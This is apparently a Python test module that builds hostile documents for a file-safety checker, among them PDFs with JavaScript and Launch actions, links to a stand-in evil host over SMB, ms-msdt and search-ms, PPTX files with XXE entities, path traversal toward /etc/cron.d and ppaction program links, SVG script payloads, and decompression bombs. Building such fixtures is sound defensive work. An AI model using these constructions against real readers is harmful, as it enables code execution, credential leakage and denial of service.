"""Hostile files for tests: documents and presentations that do, carry or fetch something, and all others."""

import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.office_files import costly_office, hostile_office
from tests.sent_files import (
    EVIL,
    LINKED,
    NAMES,
    RELS,
    RELS_OF,
    SLIDE,
    TYPES,
    chunk,
    cut,
    disguised,
    huge_png,
    pdf,
    picture,
    pictures,
    png,
    relationships,
    slides,
    types,
)


def hostile():
    """Files that do harm as they are. Their names tell how; in what they carry or fetch stands EVIL."""
    return {
        **dict(cut()),
        **dict(pdfs()),
        **dict(acting_pdfs()),
        **dict(carrying_pdfs()),
        **dict(presentations()),
        **dict(fetching_slides()),
        **dict(linking_slides()),
        **dict(drawing_slides()),
        **dict(pictures()),
        **dict(disguised()),
        **dict(hostile_office()),
    }


def root(key, value):
    return lambda made: made.Root.__setitem__(key, value)


def on_page(key, value):
    return lambda made: made.pages[0].obj.__setitem__(key, value)


def bomb(filters):
    packed = zlib.compress(b"\0" * 140_000_000, 1)
    for _layer in range(filters - 1):
        packed = zlib.compress(packed, 9)
    names = Array([Name.FlateDecode] * filters)
    return lambda made: made.pages[0].obj.__setitem__("/Contents", pikepdf.Stream(made, packed, Filter=names))


def deep(levels):
    found = Array([])
    for _level in range(levels):
        found = Array([found])
    return found


ELSEWHERE = rf"\\{EVIL}\share\x"
SITE = f"https://{EVIL}.example/"


def script():
    return Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{SITE}')"))


def fetch():
    return Dictionary(S=Name.URI, URI=String(SITE))


def link(action, **more):
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action, **more)
    return on_page("/Annots", Array([note]))


def streams(number, size):
    """Many streams that are small on disk: `size` megabytes each, unpacked."""

    def change(made):
        packed = zlib.compress(b"\0" * (size * 1_000_000), 9)
        each = [pikepdf.Stream(made, packed, Filter=Name.FlateDecode) for _number in range(number)]
        made.pages[0].obj.Contents = Array([made.make_indirect(one) for one in each])

    return change


def pdfs():
    """What a reader of PDFs cannot or should not read."""
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    huge = {"Type": Name.XObject, "Subtype": Name.Image, "Width": 60_000, "Height": 60_000}
    yield "loop-of-pages.pdf", pdf(lambda made: made.Root.Pages.Kids.append(made.Root.Pages))
    yield "locked.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "locked-for-owners.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))
    yield "huge-picture.pdf", pdf(lambda made: put_in(made, "/XObject", pikepdf.Stream(made, b"x", **huge)))
    yield "deep.pdf", pdf(on_page("/Group", deep(400)))
    yield "no-pages.pdf", pdf(lambda made: made.pages.__delitem__(0))
    yield "many-pages.pdf", pdf(lambda made: [made.add_blank_page() for _page in range(500)], **packed)
    yield "begins-late.pdf", b"GIF89a" + pdf()
    yield "a-page-follows.pdf", pdf() + f"<script>alert('{EVIL}')</script>".encode()
    yield "an-archive-follows.pdf", pdf() + slides()
    yield "nothing-but-a-head.pdf", b"%PDF-1.7\n%%EOF\n"
    yield (
        "unknown-filter.pdf",
        pdf(lambda made: made.pages[0].Contents.__setitem__("/Filter", Name.Crypt), compress_streams=False),
    )


def put_in(made, kind, value):
    """Let a page have a resource."""
    made.pages[0].obj.Resources = Dictionary({kind: Dictionary({"/X1": made.make_indirect(value)})})


def acting_pdfs():
    """PDFs that do something when they are opened or clicked."""
    away = Dictionary(S=Name.GoToR, F=String(ELSEWHERE))
    url = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(SITE))
    acts = {
        "script": script,
        "fetch": fetch,
        "launch": lambda: Dictionary(S=Name.Launch, F=String(f"{EVIL}.exe"), Win=Dictionary(F=String(EVIL))),
        "elsewhere": lambda: away,
        "embedded": lambda: Dictionary(S=Name.GoToE, F=String(ELSEWHERE), T=Dictionary(N=String(EVIL))),
        "submit": lambda: Dictionary(S=Name.SubmitForm, F=url),
        "import": lambda: Dictionary(S=Name.ImportData, F=String(ELSEWHERE)),
        "thread": lambda: Dictionary(S=Name.Thread, F=String(ELSEWHERE), D=0),
        "rendition": lambda: Dictionary(S=Name.Rendition, JS=String(EVIL)),
        "sound": lambda: Dictionary(S=Name.Sound, Sound=String(EVIL)),
        "movie": lambda: Dictionary(S=Name.Movie, T=String(EVIL)),
        "next": lambda: Dictionary(S=Name.GoTo, D=Array([0]), Next=script()),
    }
    for name, act in acts.items():
        yield f"opens-with-{name}.pdf", pdf(root("/OpenAction", act()))
        yield (
            f"link-to-{name}.pdf",
            pdf(link(act())) if name != "fetch" else pdf(link(act(), AA=Dictionary(E=script()))),
        )
    for address in (
        f"file:///{EVIL}", ELSEWHERE, f"javascript:{EVIL}", f"search-ms:query={EVIL}", f"ms-msdt:/id {EVIL}",
        f"smb://{EVIL}", rf"https:\\{EVIL}", f"http:{EVIL}", rf"https://x\@{EVIL}", f"data:text/html,{EVIL}",
    ):  # fmt: skip
        yield (
            f"address-{address.partition(':')[0][:9]}-{len(address)}.pdf",
            pdf(link(Dictionary(S=Name.URI, URI=String(address)))),
        )


def drawing(**more):
    """Let a page have a drawing with these keys."""

    def change(made):
        drawn = pikepdf.Stream(made, b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        for key, value in more.items():
            drawn[f"/{key}"] = value
        put_in(made, "/XObject", drawn)

    return change


def carrying_pdfs():
    """PDFs in which an act, a file or a site stands at some other place."""
    hidden = Dictionary(Subtype=Name.Link, A=Dictionary(Next=Array([script()])))
    url = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(SITE))
    for place in ("O", "C"):
        yield f"page-event-{place}.pdf", pdf(on_page("/AA", Dictionary({f"/{place}": fetch()})))
    for place in ("WC", "WS", "DS", "WP", "DP"):
        yield f"document-event-{place}.pdf", pdf(root("/AA", Dictionary({f"/{place}": script()})))
    yield "link-with-another-act.pdf", pdf(link(fetch(), PA=script(), AA=Dictionary(E=fetch())))
    yield (
        "names-a-script.pdf",
        pdf(root("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String(EVIL), script()]))))),
    )
    yield "script-deep-inside.pdf", pdf(on_page("/Annots", Array([hidden])))
    yield (
        "script-in-a-stream.pdf",
        pdf(root("/OpenAction", script()), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    )
    yield "carries-a-file.pdf", pdf(lambda made: made.attachments.__setitem__(f"{EVIL}.exe", b"MZ"))
    yield "form-in-disguise.pdf", pdf(root("/AcroForm", Dictionary(XFA=String(EVIL))))
    for kind in ("RichMedia", "FileAttachment", "Screen", "Movie", "Sound", "3D", "Popup"):
        note = Dictionary(
            Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]), A=script(), Contents=String(EVIL), FS=url
        )
        yield f"note-{kind}.pdf", pdf(on_page("/Annots", Array([note])))
    for key, value in {
        "URI": Dictionary(Base=String(SITE)), "Threads": Array([Dictionary(F=String(EVIL))]),
        "AF": Array([url]),
        "Collection": Dictionary(D=String(EVIL)), "Outlines": Dictionary(First=Dictionary(A=script())),
        "Perms": Dictionary(DocMDP=String(EVIL)), "DSS": Dictionary(VRI=String(EVIL)),
        "SpiderInfo": Dictionary(C=String(EVIL)), "PieceInfo": Dictionary(X=String(EVIL)),
        "StructTreeRoot": Dictionary(AF=url), "ViewerPreferences": Dictionary(X=String(EVIL)),
    }.items():  # fmt: skip
        yield f"document-{key}.pdf", pdf(root(f"/{key}", value))
    for key in ("AF", "PieceInfo", "B", "Trans", "Metadata", "PresSteps", "VP"):
        yield f"page-{key}.pdf", pdf(on_page(f"/{key}", Array([url, script()])))

    yield "data-from-a-site.pdf", pdf(drawing(F=url, FFilter=Name.FlateDecode))
    yield "contents-from-a-site.pdf", pdf(lambda made: made.pages[0].Contents.__setitem__("/F", url))
    yield "page-of-another-file.pdf", pdf(drawing(Ref=Dictionary(F=String(ELSEWHERE), Page=0)))
    yield "pictures-elsewhere.pdf", pdf(drawing(OPI=Dictionary({"/2.0": Dictionary(F=String(ELSEWHERE))})))
    yield "drawn-by-a-printer.pdf", pdf(drawing(Subtype=Name.PS))
    yield "act-in-a-drawing.pdf", pdf(drawing(A=fetch(), AA=Dictionary(O=script())))
    for kind in ("/ExtGState", "/Properties", "/Pattern", "/Font", "/ColorSpace", "/Shading", "/Actions"):
        value = Dictionary(
            A=fetch(), AA=Dictionary(O=script()), F=String(ELSEWHERE), ExtGState=Dictionary(A=fetch())
        )
        yield f"act-in-{kind[1:]}.pdf", pdf(lambda made, kind=kind, value=value: put_in(made, kind, value))


def part(name, content):
    """Let a part have this content."""
    return lambda parts: parts.__setitem__(name, content)


def related(*line, kinds=(), content=b""):
    """A fourth relation of the slide, which names it, and the part that it leads to."""

    def change(parts):
        parts[RELS_OF] = relationships(*LINKED, line)
        parts[SLIDE] = parts[SLIDE].replace(b"</p:sld>", b'<d r:id="r4"/></p:sld>')
        if content:
            parts["ppt" + line[1].removeprefix("..")] = content
        if kinds:
            parts["[Content_Types].xml"] = types({**TYPES, **dict(kinds)})

    return change


def presentations():
    """What is no presentation, or one that a program should not open."""

    entities = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><p:sld>&b;</p:sld>'
    outside = f'<!DOCTYPE x SYSTEM "file:///{EVIL}"><p:sld/>'
    yield "laughs.pptx", slides(part(SLIDE, entities))
    yield "reads-a-file.pptx", slides(part(SLIDE, outside.encode()))
    yield "reads-in-utf-16.pptx", slides(part(SLIDE, outside.encode("utf-16")))
    yield "types-read-a-file.pptx", slides(part("[Content_Types].xml", outside.encode()))
    yield "relations-read-a-file.pptx", slides(part(RELS_OF, outside.encode()))
    yield (
        "another-encoding.pptx",
        slides(part(SLIDE, '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"))),
    )
    yield "styled.pptx", slides(part(SLIDE, f'<?xml-stylesheet href="{SITE}"?><a/>'.encode()))
    yield "no-xml.pptx", slides(part(SLIDE, b"<a><b></a>"))
    yield "deep.pptx", slides(part(SLIDE, b"<a>" * 300 + b"</a>" * 300))
    yield "many.pptx", slides(lambda parts: parts.update({f"a/{n}": b"" for n in range(5001)}))
    yield "a-document.pptx", slides(lambda parts: parts.pop("ppt/presentation.xml"))
    yield "another-kind.pptx", slides(part("[Content_Types].xml", b"<Types/>"))
    yield "other-packing.pptx", slides(compression=zipfile.ZIP_LZMA)
    yield "a-page-follows.pptx", slides() + f"<script>alert('{EVIL}')</script>".encode()
    yield "twice.pptx", slides(part("PPT/presentation.xml", b"<x/>"))
    yield "no-relations.pptx", slides(lambda parts: parts.pop("_rels/.rels"))
    for main in (
        "ms-powerpoint.presentation.macroEnabled.main+xml",
        "openxmlformats-officedocument.wordprocessingml",
    ):
        kind = f"application/vnd.{main}"
        yield (
            f"calls-itself-{main[:9]}.pptx",
            slides(part("[Content_Types].xml", types({**TYPES, "ppt/presentation.xml": kind}))),
        )


def fetching_slides():
    """Presentations that run, carry or fetch something."""

    evil, ole = EVIL.encode(), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    programs = {
        "object-as-picture.png": ole, "program-as-picture.png": b"MZ", "sheet.xlsx": b"MZ",
        "saver.scr": b"MZ",
        "macros.xlsx": b"PK\x03\x04 xl/vbaProject.bin", "way.lnk": b"L\0\0\0", "page.hta": b"<script>",
        "shell.ps1": b"iwr ", "run.bat": b"start ", "a.js": b"",
        "film.mp4": b"\0\0\0\x18ftyp", "song.wav": b"RIFF",
        "old.wmf": b"\xd7\xcd\xc6\x9a",
    }  # fmt: skip
    for name, content in programs.items():
        path = f"ppt/media/{name}"
        for kind in ("image", "oleObject", "package", "video"):
            line = (f"{RELS}/{kind}", f"../media/{name}")
            yield (
                f"{kind}-{name}.pptx",
                slides(related(*line, content=content + evil, kinds=[(path, "image/png")])),
            )
    genuine_picture = picture("PNG", size=(4, 4)) + evil
    yield (
        "picture-as-object.pptx",
        slides(related(f"{RELS}/oleObject", "../media/o.png", content=genuine_picture)),
    )
    for kind in (
        "vbaProject",
        "control",
        "attachedTemplate",
        "subDocument",
        "frame",
        "externalLinkPath",
        "audio",
    ):
        yield (
            f"inside-{kind}.pptx",
            slides(related(f"{RELS}/{kind}", "../x.xml", content=b"<a>" + evil + b"</a>")),
        )
        yield f"outside-{kind}.pptx", slides(related(f"{RELS}/{kind}", SITE, True))


def linking_slides():
    """Presentations that lead, fetch or run from a link, a drawing or a name."""
    yield "linked-picture.pptx", slides(related(f"{RELS}/image", SITE, True))
    yield "linked-slide.pptx", slides(related(f"{RELS}/slide", SITE, True))
    yield "its-own-kind.pptx", slides(related("http://evil.example/hyperlink", SITE, True))
    for address in (
        f"file:///{EVIL}", ELSEWHERE, f"javascript:{EVIL}", f"vbscript:{EVIL}",
        f"search-ms:{EVIL}", f"ms-msdt:{EVIL}",
        f"//{EVIL}/x", rf"https:\\{EVIL}", rf"https://x\@{EVIL}",
        f"https://x/ {EVIL}", f"ms-word:ofe|u|{SITE}",
    ):  # fmt: skip
        yield (
            f"link-{address[:8].replace('/', '_')}.pptx",
            slides(related(f"{RELS}/hyperlink", address, True)),
        )
    for act in ("program", "macro", "ole", "media", "file", "hlinkfile", "hlinkpres", "PROGRAM"):
        run = f'<p:sld {NAMES}><a action="ppaction://{act}?{EVIL}"/></p:sld>'
        yield f"runs-{act}.pptx", slides(part(SLIDE, run.encode()))


def drawing_slides():
    """Presentations with a drawing, a name or a list that is more than it says."""
    evil = EVIL.encode()
    for name, drawing in {
        "script": f"<script>{EVIL}</script>", "event": f'<g onload="{EVIL}"/>',
        "image": f'<image href="{SITE}"/>',
        "use": f'<use xlink:href="{SITE}#a" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
        "style": f"<style>a{{background:url({SITE})}}</style>", "fill": f'<g style="fill:url({SITE})"/>',
        "import": f"<style>@import '{SITE}'</style>",
        "hidden": r"<style>a{b:\75rl(x)}</style>" + f"<!--{EVIL}-->",
        "foreign": f"<foreignObject>{EVIL}</foreignObject>", "data": f'<image href="data:text/html,{EVIL}"/>',
    }.items():  # fmt: skip
        svg = f'<svg xmlns="http://www.w3.org/2000/svg">{drawing}</svg>'.encode()
        yield f"drawing-{name}.pptx", slides(related(f"{RELS}/image", "../media/d.svg", content=svg))
    for name, target in {
        "climbs": "../../../../etc/x",
        "hidden": "%2e%2e/%2e%2e/%2e%2e/x",
        "back": r"..\\x",
    }.items():
        yield f"{name}.pptx", slides(related(f"{RELS}/image", target))
    yield "climbing-part.pptx", slides(part("../../etc/cron.d/x", evil))
    yield "unused-macros.pptx", slides(part("ppt/vbaProject.bin", evil))
    yield "huge-picture.pptx", slides(part("ppt/media/image1.png", huge_png()))
    for kind, path in {
        "ui": "customUI/customUI.xml",
        "web": "taskpanes.xml",
        "own": "customXml/item1.xml",
    }.items():
        lines = (
            (f"{RELS}/officeDocument", "ppt/presentation.xml"),
            (f"http://schemas.microsoft.com/{kind}", path),
        )
        yield (
            f"root-{kind}.pptx",
            slides(
                lambda parts, lines=lines, path=path: parts.update(
                    {"_rels/.rels": relationships(*lines), path: b"<a>" + evil + b"</a>"}
                )
            ),
        )
    smuggled = f'<c:externalData x=\'><evil action="ppaction://program?{EVIL}"/>\' r:id="r1"/>'
    yield (
        "smuggled.pptx",
        slides(part("ppt/charts/chart1.xml", f"<c:chart {NAMES}>{smuggled}</c:chart>".encode())),
    )


def costly():
    """Files that are small on disk and large once unpacked, the worst that was found first."""
    zeros = zlib.compress(b"\0" * 100_000_000, 9)
    dots = zlib.compress(b"\0" * (7_000 * 876))
    yield "eight-bombs.pdf", pdf(streams(8, 120), compress_streams=False)
    yield "bomb.pdf", pdf(bomb(1), compress_streams=False)
    yield "bomb-in-a-bomb.pdf", pdf(bomb(2), compress_streams=False)
    yield "bomb.pptx", slides(part(SLIDE, b"<a>" + b" " * 300_000_000 + b"</a>"))
    yield "many-elements.pptx", slides(part(SLIDE, b"<a>" + b"<b/>" * 4_000_000 + b"</a>"))
    yield "text-bomb.png", png(7_000, 7_000, dots, chunk(b"zTXt", b"Comment\0\0" + zeros))
    yield "profile-bomb.png", png(7_000, 7_000, dots, chunk(b"iCCP", b"x\0\0" + zeros))
    yield "largest.png", png(7_000, 7_000, dots)
    scans = picture("JPEG", size=(5_000, 5_000), progressive=True)
    yield "largest.jpg", scans
    yield (
        "a-chart-of-elements.pptx",
        slides(
            part(
                "ppt/charts/chart1.xml",
                b'<c:chart xmlns:c="c">' + b'<c:v a="1" b="2"/>' * 400_000 + b"</c:chart>",
            )
        ),
    )
    yield (
        "many-objects.pdf",
        pdf(
            lambda made: made.pages[0].obj.__setitem__(
                "/Group", Array([made.make_indirect(Dictionary(S=Array([n]))) for n in range(100_000)])
            ),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
    )
    yield from costly_office()
